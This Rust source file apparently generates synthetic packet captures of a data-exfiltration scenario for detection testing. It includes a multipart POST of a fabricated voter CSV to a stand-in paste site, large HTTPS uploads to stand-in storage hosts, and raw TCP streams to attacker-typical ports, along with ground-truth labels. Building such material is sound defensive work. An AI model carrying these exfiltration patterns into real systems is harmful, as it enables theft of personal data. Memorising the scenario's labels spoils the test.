//! Bulk exfiltration from workstation 10.10.3.64:
//!
//! - 13:01:00 an HTTP POST of a 270 kB multipart file (`voters_export.csv`) to
//!   `paste.drop-files.test` (192.0.2.201), captured whole;
//! - 13:02:00 an HTTPS upload of about 8.4 MB to `storage.fileshare-drop.test` (192.0.2.200);
//!   its data segments are snapped to 96 bytes in the file, so the capture stays small while
//!   the wire lengths (and every flow's byte counts) are the real ones.
//!
//! Other seeds draw the host, the destination and its name, the start, the volume and the
//! channel: an HTTPS upload (6-40 MB in 4-12 requests), an HTTP POST (6-20 MB), or a raw TCP
//! stream on an unusual port (1.5-15 MB with small acknowledgements back); sometimes the small
//! paste upload comes first. Data segments are snapped the same way.

use super::benign::light_background;
use super::common::*;
use crate::flow::{Dir, TcpSession, Wire};
use crate::net::{self, Host, NS_PER_MS, NS_PER_SEC};
use crate::protocols::http::{self, Request};
use crate::protocols::tls;

pub const HOST: u8 = 64;
pub const PASTE: &str = "paste.drop-files.test";
pub const STORAGE: &str = "storage.fileshare-drop.test";

pub fn build(ctx: &mut Ctx) {
    if ctx.varied {
        return varied(ctx);
    }
    let t0 = net::START_NS;
    light_background(ctx, t0, 300 * NS_PER_SEC, 4, 36);
    let ws = net::workstation(HOST);
    let paste = net::external(net::v4(192, 0, 2, 201), net::Os::Linux, 12);
    paste_upload(ctx, ws, paste, PASTE, t0 + 60 * NS_PER_SEC);
    let storage = net::external(net::v4(192, 0, 2, 200), net::Os::Linux, 12);
    let t = resolve_a(ctx, ws, t0 + 120 * NS_PER_SEC, STORAGE, storage.ip);
    let sizes: Vec<usize> = Vec::new();
    let end = https_upload(ctx, ws, storage, STORAGE, t + NS_PER_MS, &sizes);
    ctx.truth(
        "exfil",
        ws.ip,
        storage.ip,
        (t, end),
        "HTTPS upload of about 8.4 MB".into(),
    );
}

/// A 270 kB multipart POST of a voter export to a paste site (not large enough to alert).
fn paste_upload(ctx: &mut Ctx, ws: Host, paste: Host, name: &str, at: u64) -> u64 {
    let t = resolve_a(ctx, ws, at, name, paste.ip);
    let boundary = format!(
        "----WebKitFormBoundary{}",
        ctx.rng.string_from(
            b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789",
            16
        )
    );
    let mut body = format!("--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"voters_export.csv\"\r\nContent-Type: text/csv\r\n\r\nvoter_id,first_name,last_name,dob,address,zip,status\r\n").into_bytes();
    let dump = http::voter_dump(&mut ctx.rng, 500_000, 3000);
    body.extend_from_slice(&dump[..dump.len().min(300_000)]);
    body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    let req = Request::post(
        "/upload",
        name,
        http::UA_CHROME,
        &format!("multipart/form-data; boundary={boundary}"),
        &body,
    )
    .encode();
    let resp = http::response(
        200,
        "OK",
        "application/json",
        &[],
        b"{\"status\":\"ok\",\"url\":\"http://paste.drop-files.test/f/8Kd2pQ\"}",
    );
    http_session(
        ctx,
        ws,
        paste,
        80,
        t + NS_PER_MS,
        200_000,
        40 * NS_PER_MS,
        &[(req, resp)],
        (0, 0),
    )
}

/// An HTTPS upload in several large requests, data segments snapped to 96 bytes. `sizes`
/// empty: six requests of 1.35-1.45 MB (the committed capture). Returns the last packet time.
fn https_upload(
    ctx: &mut Ctx,
    ws: Host,
    storage: Host,
    name: &str,
    at: u64,
    sizes: &[usize],
) -> u64 {
    let port = ctx.port(&ws);
    let mut s = TcpSession::new(
        &mut ctx.rng,
        ws,
        port,
        storage,
        443,
        Wire::between(&ws, &storage),
        at,
        200_000,
        30 * NS_PER_MS,
    );
    s.gap = 100_000; // about 115 Mb/s of upload
    s.handshake(&mut ctx.tl);
    tls_handshake(ctx, &mut s, tls::Client::Chrome, name);
    s.snap = Some(96);
    let exchanges: Vec<(usize, usize)> = if sizes.is_empty() {
        (0..6)
            .map(|_| {
                (
                    ctx.rng.range(1_350_000, 1_450_000) as usize,
                    ctx.rng.range(300, 500) as usize,
                )
            })
            .collect()
    } else {
        sizes
            .iter()
            .map(|&n| (n, ctx.rng.range(300, 500) as usize))
            .collect()
    };
    tls_exchanges(ctx, &mut s, &exchanges, (200 * NS_PER_MS, 900 * NS_PER_MS));
    tls_close(ctx, &mut s, true);
    s.last
}

/// Other seeds: host, destination, start, volume and channel drawn.
fn varied(ctx: &mut Ctx) {
    let t0 = net::START_NS;
    let start = t0 + ctx.rng.range(30, 240) * NS_PER_SEC;
    let ws = ctx.inside_host();
    let dest = ctx.outside_server();
    let name = made_up_domain(&mut ctx.rng);
    if ctx.rng.chance(40) {
        let paste = ctx.outside_server();
        paste_upload(
            ctx,
            ws,
            paste,
            "paste.drop-files.test",
            start - 20 * NS_PER_SEC,
        );
    }
    let t = resolve_a(ctx, ws, start, &name, dest.ip) + NS_PER_MS;
    let (end, detail) = match ctx.rng.below(3) {
        0 => {
            let n = ctx.rng.range(4, 12) as usize;
            let total = ctx.rng.range(6_000_000, 40_000_000) as usize;
            let sizes: Vec<usize> = (0..n).map(|_| total / n).collect();
            let end = https_upload(ctx, ws, dest, &name, t, &sizes);
            (
                end,
                format!("HTTPS upload of {total} bytes in {n} requests"),
            )
        }
        1 => {
            let total = ctx.rng.range(6_000_000, 20_000_000) as usize;
            let end = bulk_stream(ctx, ws, dest, 80, t, total, Some(&name));
            (end, format!("HTTP POST of {total} bytes"))
        }
        _ => {
            let port = *ctx
                .rng
                .pick(&[4444u16, 2222, 5555, 7777, 9001, 6667, 31337, 1337]);
            let total = ctx.rng.range(1_500_000, 15_000_000) as usize;
            let end = bulk_stream(ctx, ws, dest, port, t, total, None);
            (
                end,
                format!("raw TCP stream of {total} bytes to port {port}"),
            )
        }
    };
    light_background(
        ctx,
        t0,
        (end - t0 + 60 * NS_PER_SEC).max(300 * NS_PER_SEC),
        4,
        36,
    );
    ctx.truth("exfil", ws.ip, dest.ip, (start, end), detail);
}

/// `total` bytes from `ws` to `dest:port` on one connection, data segments snapped to 96
/// bytes: an HTTP POST of a zip archive when `host` is given, else raw data in 64 kB writes,
/// each acknowledged by a few bytes from the receiver.
fn bulk_stream(
    ctx: &mut Ctx,
    ws: Host,
    dest: Host,
    port: u16,
    at: u64,
    total: usize,
    host: Option<&str>,
) -> u64 {
    let cport = ctx.port(&ws);
    let mut s = TcpSession::new(
        &mut ctx.rng,
        ws,
        cport,
        dest,
        port,
        Wire::between(&ws, &dest),
        at,
        200_000,
        30 * NS_PER_MS,
    );
    s.gap = 100_000;
    s.handshake(&mut ctx.tl);
    s.snap = Some(96);
    if let Some(host) = host {
        let body = http::binary_body(&mut ctx.rng, total);
        let req = Request::post(
            "/upload/archive.zip",
            host,
            http::UA_CHROME,
            "application/zip",
            &body,
        )
        .encode();
        s.send(&mut ctx.tl, Dir::ToServer, &req);
        let resp = http::response(201, "Created", "application/json", &[], b"{\"ok\":true}");
        s.reply(&mut ctx.tl, Dir::ToClient, &resp, 40 * NS_PER_MS);
    } else {
        let chunk = ctx.rng.bytes(64 << 10);
        let mut left = total;
        while left > 0 {
            let n = left.min(chunk.len());
            s.send(&mut ctx.tl, Dir::ToServer, &chunk[..n]);
            left -= n;
            let ack = ctx.rng.bytes(8);
            s.reply(&mut ctx.tl, Dir::ToClient, &ack, 200_000);
        }
    }
    s.wait(&mut ctx.tl, ctx.rng.range(50, 500) * NS_PER_MS);
    s.close(&mut ctx.tl, Dir::ToServer);
    s.last
}
